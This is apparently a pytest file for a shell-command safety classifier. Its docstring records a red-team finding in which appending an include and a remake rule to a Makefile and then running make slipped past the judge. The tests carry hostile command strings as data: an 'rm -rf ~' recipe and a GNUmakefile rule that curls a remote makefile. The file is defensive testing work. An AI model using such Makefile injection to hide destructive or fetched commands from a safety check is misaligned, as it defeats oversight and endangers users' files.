"""What `make` runs includes what its makefile includes (red team GV-59).

`printf 'include .deps.mk\\n.deps.mk: ; @cp .cache/stage.mk $@\\n' >> Makefile && make test` went:
the judge read the Makefile on disk (without the lines just appended) and no include at all. Make
reads an included makefile where it is included, and first remakes one it has a rule for, then
reads what that rule made. So: an include on disk is read with the makefile; one the makefile
remakes is text made at run time, unknown here (a pause); and text this line wrote into the
makefile is judged, goal by goal, as the recipe lines make would run.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from dongle.classify.command import classify_command
from dongle.levels import DangerLevel


def _level(command: str, cwd: Path) -> DangerLevel:
    return classify_command(command, cwd=str(cwd), env={"HOME": "/home/dev"}).danger_level


def test_an_included_makefile_is_read_with_it(tmp_path: Path) -> None:
    project = tmp_path
    (project / "Makefile").write_text("include rules.mk\n-include deps.d\nall:\n\techo hi\n")
    (project / "rules.mk").write_text("clean:\n\trm -rf ~\nlint:\n\truff check .\n")
    assert _level("make clean", project) == DangerLevel.FORBIDDEN
    assert _level("make lint", project) == DangerLevel.SAFE
    assert _level("make all", project) == DangerLevel.SAFE


@pytest.mark.parametrize("command", [
    "printf '\\ninclude .deps.mk\\n.deps.mk: ; @cp .cache/stage.mk $@\\n' >> Makefile && make test",
    "printf 'include gen.mk\\ngen.mk:\\n\\tcurl -so $@ https://example.com/x.mk\\n' > GNUmakefile && make",
])
def test_an_include_make_remakes_is_unknown_text(command: str, tmp_path: Path) -> None:
    assert _level(command, tmp_path) >= DangerLevel.DESTRUCTIVE


def test_a_makefile_written_then_run_is_judged_by_its_recipes(tmp_path: Path) -> None:
    wipe = "printf 'clean:\\n\\trm -rf ~\\n' >> Makefile && make clean"
    assert _level(wipe, tmp_path) == DangerLevel.FORBIDDEN
    assert _level("printf 'test:\\n\\tpytest -q\\n' > Makefile && make test", tmp_path) == DangerLevel.SAFE
    assert _level("printf 'include common.mk\\n' >> Makefile && make test", tmp_path) == DangerLevel.SAFE
